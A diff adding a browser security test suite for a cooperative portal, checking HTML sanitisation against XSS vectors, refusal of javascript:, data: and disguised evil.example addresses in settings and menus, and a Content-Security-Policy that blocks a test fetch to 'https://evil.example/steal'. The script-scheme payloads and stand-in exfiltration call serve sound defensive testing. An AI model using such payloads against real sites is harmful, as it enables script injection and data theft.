@@ -1,0 +1,235 @@
+import { paths } from '@coopline/contract/paths'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { launchBrowser, newVisitor, unexpected } from './support/browser.ts'
+import { type PortalUnderTest, startPortalUnderTest } from './support/portal-under-test.ts'
+import { swallowingVectors, xssVectors } from './support/xss-vectors.ts'
+
+let portal: PortalUnderTest
+let browser: Browser
+
+beforeAll(async () => {
+  ;[portal, browser] = await Promise.all([startPortalUnderTest(), launchBrowser()])
+})
+
+afterAll(async () => {
+  await Promise.all([browser?.close(), portal?.close()])
+})
+
+/** What a page must not hold, wherever it came from. */
+const dangersIn = (page: Page) =>
+  page.evaluate(() => {
+    const dangers: string[] = []
+    for (const element of document.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        if (/^on/iu.test(name)) dangers.push(`${element.tagName} ${name}`)
+        const isAddress = [
+          'href',
+          'src',
+          'action',
+          'formaction',
+          'xlink:href',
+          'data',
+          'srcset',
+          'ping',
+          'background',
+        ].includes(name)
+        // oxlint-disable-next-line no-control-regex
+        if (isAddress && /^[\s\u0000-\u0020]*(?:javascript|vbscript|data):/iu.test(value))
+          dangers.push(`${element.tagName} ${name}=${value}`)
+      }
+      if (/^(?:iframe|object|embed|applet|base|frame|form|marquee|portal)$/iu.test(element.tagName))
+        dangers.push(element.tagName)
+    }
+    for (const script of document.scripts)
+      if (script.src === '' && script.type !== 'application/json') dangers.push(`inline script ${script.text}`)
+    for (const content of document.querySelectorAll('[data-ui="content"]'))
+      if (
+        content.querySelector(
+          'script, style, svg, math, link, meta, input, button, template, [style], [id], [srcset]',
+        ) !== null
+      )
+        dangers.push('not allowed in content')
+    return dangers
+  })
+
+const marked = (vectors: readonly string[]): string =>
+  vectors.map((vector, index) => `<p>before-${index}</p>${vector}<p>after-${index}.</p>`).join('\n')
+
+describe('HTML in settings', () => {
+  test('[SEC-52] over 70 vectors in aboutUs, legalContent and the announcement: the words around them stand there, no script runs, no window opens, no other site is asked, no handler is in the page', async () => {
+    expect(xssVectors.length).toBeGreaterThan(70)
+    const [inFooter = '', inTerms = '', inAnnouncement = ''] = swallowingVectors
+    await portal.set({
+      aboutUs: marked(xssVectors) + inFooter,
+      legalContent: marked(xssVectors.toReversed()) + inTerms,
+      emergencyAnnouncementMessage: marked(xssVectors) + inAnnouncement,
+      displayEmergencyAnnouncement: 'Y',
+    })
+    const visitor = await newVisitor(browser)
+    const { page, context, origins, popups } = visitor
+    await page.goto(portal.origin + paths.legalTerms())
+    await page.getByRole('main').getByText('after-0.', { exact: true }).waitFor()
+    const places = [
+      page.getByRole('main'),
+      page.getByRole('contentinfo'),
+      page.getByRole('region', { name: 'Announcement' }),
+    ]
+    for (const place of places) {
+      const words = await place.innerText()
+      const lost = xssVectors.map((_, index) => index).filter((index) => !words.includes(`after-${index}.`))
+      expect(lost).toEqual([])
+    }
+    for (const link of await page.getByRole('main').getByRole('link', { name: 'x', exact: true }).all())
+      expect(await link.getAttribute('href')).toMatch(/^https:\/\//u)
+    for (const word of await page.getByRole('main').getByText('x', { exact: true }).all())
+      await word.hover({ force: true })
+    await page.waitForLoadState('networkidle')
+    expect(await dangersIn(page)).toEqual([])
+    expect(await page.evaluate(() => '__x' in window)).toBe(false)
+    expect(popups).toEqual([])
+    expect([...origins]).toEqual([portal.origin])
+    expect(unexpected(visitor)).toEqual([])
+    expect(context.pages().length).toBe(1)
+    await context.close()
+    await portal.set({ displayEmergencyAnnouncement: 'N', aboutUs: '', legalContent: '' })
+  })
+
+  test('[SEC-52] a string that a script writes into the page as markup is refused by the browser', async () => {
+    const { page, context } = await newVisitor(browser)
+    await page.goto(portal.origin + paths.home())
+    const outcome = await page.evaluate(() => {
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<img src=x>')
+        return 'written'
+      } catch (error) {
+        return error instanceof TypeError ? 'TypeError' : String(error)
+      }
+    })
+    expect(outcome).toBe('TypeError')
+    await context.close()
+  })
+})
+
+const menuEntry = (title: string, moduleLink: string, external: boolean) => ({
+  title,
+  moduleLink,
+  external,
+  megaMenu: false,
+  position: 1,
+  subMenu: [],
+})
+
+describe('addresses in settings', () => {
+  const bad = [
+    'javascript:window.__x=1',
+    'JaVaScRiPt:window.__x=1',
+    'java\tscript:window.__x=1',
+    ' javascript:window.__x=1',
+    'data:text/html,<script>window.__x=1</script>',
+    'vbscript:x',
+    '//evil.example/x',
+    String.raw`/\evil.example/x`,
+    'https:evil.example',
+    'https://user:pass@evil.example/',
+  ]
+
+  test('[SEC-54] script, data and disguised addresses are refused when they are set, and the portal keeps what it had', async () => {
+    const keys = [
+      'portalLogoPath',
+      'homeBannerImagePath',
+      'logoClickRedirectionLink',
+      'signOutLink',
+      'facebookUrl',
+      'featureFlagCustomCss',
+      'siteScriptPath',
+    ]
+    const taken: string[] = []
+    for (const key of keys)
+      for (const address of bad)
+        await portal.set({ [key]: address }).then(
+          () => taken.push(`${key} ${address}`),
+          (error: Error) => expect(error.message).toContain(key),
+        )
+    for (const address of [...bad, 'http://chat.example/x.js'])
+      await portal.set({ webChatSetting: { ...noChat, scriptUrl: address } }).then(
+        () => taken.push(`webChatSetting ${address}`),
+        () => undefined,
+      )
+    for (const address of ['https://evil.example/x.css', 'https://evil.example/x.js'])
+      for (const key of ['featureFlagCustomCss', 'siteScriptPath'])
+        await portal.set({ [key]: address }).then(
+          () => taken.push(`${key} ${address}`),
+          () => undefined,
+        )
+    expect(taken).toEqual([])
+  })
+
+  test('[SEC-54] a menu entry with such an address is refused or left out of the menu; a good one stands there, in a new window without opener when it leads elsewhere', async () => {
+    const entries = bad.map((address, index) => menuEntry(`Bad ${index}`, address, index % 2 === 0))
+    const good = [menuEntry('Terms', '/legal-terms', false), menuEntry('Weather', 'https://weather.example/', true)]
+    const accepted = await portal.set({ useCustomMenu: 'Y', mcpMenu: [...good, ...entries] }).then(
+      () => true,
+      () => false,
+    )
+    if (!accepted) await portal.set({ useCustomMenu: 'Y', mcpMenu: good })
+    const { page, context } = await newVisitor(browser, { viewport: { width: 1280, height: 900 } })
+    await page.goto(portal.origin + paths.home())
+    const menu = page.getByRole('navigation', { name: 'Main' })
+    await menu.getByRole('link', { name: 'Terms' }).waitFor()
+    expect(await menu.getByRole('link', { name: /Bad/u }).count()).toBe(0)
+    const weather = menu.getByRole('link', { name: /Weather/u })
+    expect(await weather.getAttribute('target')).toBe('_blank')
+    expect(await weather.getAttribute('rel')).toContain('noopener')
+    expect(await dangersIn(page)).toEqual([])
+    await context.close()
+    await portal.set({ useCustomMenu: 'N', mcpMenu: [] })
+  })
+
+  test('[SEC-54] the cooperative’s style sheet, logo and chat load from the addresses that are set and the policy names just those', async () => {
+    await portal.set({
+      featureFlagCustomCss: '/custom.css',
+      portalLogoPath: 'https://images.example/logo.png',
+      webChatSetting: { ...noChat, scriptUrl: 'https://chat.example/chat.js', apiUrl: 'https://api.chat.example/v1' },
+    })
+    const { page, context, origins } = await newVisitor(browser)
+    await context.route(`${portal.origin}/custom.css`, (route) =>
+      route.fulfill({ contentType: 'text/css', body: 'h1 { letter-spacing: 7px }' }),
+    )
+    await context.route(/^https:/u, (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: 'window.chatLoaded = true' }),
+    )
+    const answer = await page.goto(portal.origin + paths.home())
+    await expect.poll(() => page.evaluate(() => 'chatLoaded' in window)).toBe(true)
+    expect(
+      await page.getByRole('heading', { level: 1 }).evaluate((title) => getComputedStyle(title).letterSpacing),
+    ).toBe('7px')
+    const policy = answer?.headers()['content-security-policy'] ?? ''
+    expect(policy).toContain("script-src 'self' https://chat.example;")
+    expect(policy).toContain("img-src 'self' data: blob: https://images.example;")
+    expect(policy).toContain("connect-src 'self' https://chat.example https://api.chat.example;")
+    expect([...origins].sort()).toEqual([portal.origin, 'https://chat.example', 'https://images.example'])
+    const stray = await page.evaluate(async () => {
+      try {
+        await fetch('https://evil.example/steal')
+        return 'sent'
+      } catch {
+        return 'refused'
+      }
+    })
+    expect(stray).toBe('refused')
+    await context.close()
+    await portal.set({ featureFlagCustomCss: '', portalLogoPath: '', webChatSetting: noChat })
+  })
+})
+
+const noChat = {
+  apiUrl: '',
+  scriptUrl: '',
+  coopId: '',
+  subTitle: '',
+  userName: '',
+  introText: '',
+  virtualAgentName: 'Virtual Agent',
+  buttons: [],
+}
